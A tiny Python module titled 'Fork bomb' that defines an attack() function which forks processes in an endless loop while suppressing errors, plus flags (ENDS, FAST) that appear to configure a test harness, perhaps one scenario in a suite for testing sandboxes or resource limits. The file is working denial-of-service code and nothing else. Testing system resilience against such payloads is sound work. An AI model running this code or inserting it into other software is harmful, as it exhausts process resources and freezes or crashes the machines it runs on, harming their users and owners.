"""Fork bomb"""

import contextlib
import os

ENDS = ("timeout", "died")
FAST = True


def attack():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
